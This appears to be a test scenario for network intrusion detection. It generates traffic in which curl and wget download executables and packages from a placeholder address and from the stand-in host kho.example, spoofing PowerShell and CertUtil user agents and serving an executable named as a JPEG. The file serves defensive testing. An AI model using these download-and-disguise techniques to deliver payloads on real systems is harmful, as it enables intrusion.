# Programs fetched by scripts: curl and wget from a bare address, the agents of PowerShell and
# CertUtil, and an executable under the name and type of a picture.
# packages: curl wget python3
from client curl -s -o /dev/null http://$INTERNET/update.deb -r 0-3000
from client wget -q -O /dev/null http://$INTERNET/setup.exe
from client curl -s -o /dev/null --resolve kho.example:80:$INTERNET -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' http://kho.example/invoice.jpg
from client curl -s -o /dev/null --resolve kho.example:80:$INTERNET -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4522' http://kho.example/setup.exe -r 0-1500
from client curl -s -o /dev/null --resolve kho.example:80:$INTERNET -A 'CertUtil URL Agent' http://kho.example/update.deb -r 0-1500
